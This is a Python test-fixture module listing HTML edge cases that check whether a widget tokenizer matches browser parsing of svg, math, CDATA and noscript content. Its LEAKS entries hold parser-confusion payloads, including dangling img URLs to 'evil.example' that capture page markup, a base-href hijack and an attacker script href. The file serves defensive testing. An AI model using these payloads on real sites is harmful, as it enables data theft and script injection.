"""Hand-written documents: the leak shapes found in the field, and pages that must get a token.

``LEAKS``: documents where a naive tokenizer stamps something a browser does not load from
the widget (it must not: a miss is fine). ``STAMPED``: ordinary pages whose widget a browser
does load and that must get their token (inline SVG icons are on most real pages).
"""

from __future__ import annotations

WIDGET = '<script src="https://reqio.app/widget.js" data-probe="w"></script>'
EVIL_GIF = "https://evil.example/i.gif?"

#: Inside <svg>/<math> these start a foreign element, not raw text: the tokenizer stays in
#: the data state, so the "end tag" below is inside the attribute value of an <img>.
_FOREIGN_RAWTEXT = ("style", "title", "script", "noscript", "xmp", "iframe", "textarea")


def _spanning(outer: str, inner: str, carrier: str = "img src") -> str:
    return (
        f"<{outer}><{inner}><{carrier}='{EVIL_GIF}</{inner}>"
        f"<script src=https://reqio.app/widget.js></script>'></{outer}>"
    )


LEAKS: dict[str, str] = {
    **{f"svg-{name}-attribute": _spanning("svg", name) for name in _FOREIGN_RAWTEXT},
    "math-style-attribute": _spanning("math", "style"),
    "svg-style-image-href": _spanning("svg", "style", "image href"),
    "svg-script-href-and-src": (
        '<svg><script href="https://evil.example/x.js" src="https://reqio.app/widget.js">'
        "</script></svg>"
    ),
    "svg-script-xlink-href": (
        '<svg><script xlink:href="https://evil.example/x.js" src="https://reqio.app/widget.js">'
        "</script></svg>"
    ),
    "svg-script-src-only": '<svg><script src="https://reqio.app/widget.js"></script></svg>',
    "math-script": '<math><script src="https://reqio.app/widget.js"></script></math>',
    "c0-reference-in-scheme-with-base": (
        '<base href="https://evil.example/">'
        '<script src="https&#x1;://reqio.app/widget.js"></script>'
    ),
    "noncharacter-reference-in-scheme-with-base": (
        '<base href="https://evil.example/">'
        '<script src="https&#xFDD0;://reqio.app/widget.js"></script>'
    ),
    "svg-cdata-hides-end": (
        "<svg><![CDATA[<style>]]><img src='"
        + EVIL_GIF
        + "</style><script src=https://reqio.app/widget.js></script>'></svg>"
    ),
    "cdata-text-in-svg": (
        "<svg><![CDATA[<script src=https://reqio.app/widget.js></script>]]></svg>"
    ),
    "svg-desc-is-html-but-title-attr-is-not": (
        "<svg><desc><b title='</desc><script src=https://reqio.app/widget.js></script>'>"
        "</b></desc></svg>"
    ),
    "math-annotation-xml-without-encoding": (
        "<math><annotation-xml><style><img src='"
        + EVIL_GIF
        + "</style><script src=https://reqio.app/widget.js></script>'></annotation-xml></math>"
    ),
    "font-without-attributes-stays-foreign": (
        "<svg><font><style><img src='"
        + EVIL_GIF
        + "</style><script src=https://reqio.app/widget.js></script>'></font></svg>"
    ),
    "select-svg-style": (
        "<select><svg><style><img src='"
        + EVIL_GIF
        + "</style><script src=https://reqio.app/widget.js></script>'></svg></select>"
    ),
    "template-svg-style": (
        "<template><svg><style><img src='"
        + EVIL_GIF
        + "</style><script src=https://reqio.app/widget.js></script>'></svg></template>"
    ),
    "table-svg-title": (
        "<table><tr><td><svg><title><img src='"
        + EVIL_GIF
        + "</title><script src=https://reqio.app/widget.js></script>'></svg></table>"
    ),
    "noscript-is-raw-text-with-scripting": (
        "<head><noscript><img src='"
        + EVIL_GIF
        + "</noscript><script src=https://reqio.app/widget.js></script>'></noscript></head>"
    ),
}

#: Foreign content ended by a breakout tag: the widget after it is HTML. A token or a miss
#: with a reason are both right; a token on anything else is not.
BREAKOUTS: dict[str, str] = {
    "svg-broken-out-by-p": "<svg><g><p>para</p>" + WIDGET,
    "svg-broken-out-by-font-color": "<svg><font color=red>x</font>" + WIDGET,
    "svg-broken-out-by-font-size": "<svg><font size=2>x</font>" + WIDGET,
    "math-broken-out-by-div": "<math><mrow><div>d</div>" + WIDGET,
    "svg-broken-out-by-table": "<svg><table><tr><td>" + WIDGET,
    "svg-broken-out-by-br": "<svg><br>" + WIDGET,
    "mtext-is-an-integration-point": "<math><mtext>" + WIDGET + "</mtext></math>",
    "foreign-object-is-an-integration-point": (
        "<svg><foreignObject>" + WIDGET + "</foreignObject></svg>"
    ),
    "annotation-xml-html-encoding": (
        '<math><annotation-xml encoding="text/html">' + WIDGET + "</annotation-xml></math>"
    ),
}

#: The widget is an HTML script element in each of these: a browser loads it.
STAMPED: dict[str, str] = {
    "after-inline-svg-icon": (
        '<p>Hi<svg viewBox="0 0 24 24" width="16"><path d="M0 0h24v24H0z"/></svg></p>' + WIDGET
    ),
    "after-svg-with-style-and-title": (
        "<svg><title>Logo</title><style>.a{fill:red}</style><g class=a></g></svg>" + WIDGET
    ),
    "after-math": "<math><mi>x</mi><mo>=</mo><mn>1</mn></math>" + WIDGET,
    "in-foreign-object-paragraph-then-after": (
        "<svg><foreignObject><p>text</p></foreignObject></svg>" + WIDGET
    ),
    "after-svg-with-cdata": "<svg><style><![CDATA[.a{}]]></style></svg>" + WIDGET,
    "after-self-closed-svg": '<svg/><img src="x.png">' + WIDGET,
    "after-accessible-icon": (
        '<button><svg role="img" aria-labelledby="t"><title id="t">Close</title>'
        '<path d="M1 1l22 22"/></svg></button>' + WIDGET
    ),
    "after-sprite-with-defs-and-use": (
        '<svg style="display:none"><defs><style>.i{fill:currentColor}</style>'
        '<symbol id="i"><path d="M0 0"/></symbol></defs></svg>'
        '<svg><use href="#i"/></svg><svg><use xlink:href="#i"></use></svg>' + WIDGET
    ),
    "after-fifty-icons": "".join(
        f'<a href="/{k}"><svg viewBox="0 0 8 8"><title>{k}</title><path d="M{k} 0"/></svg></a>'
        for k in range(50)
    )
    + WIDGET,
    "after-svg-desc-with-html": "<svg><desc><b>bold</b></desc><text>t</text></svg>" + WIDGET,
    "plain-page": "<!doctype html><html><head><title>t</title></head><body>" + WIDGET,
}
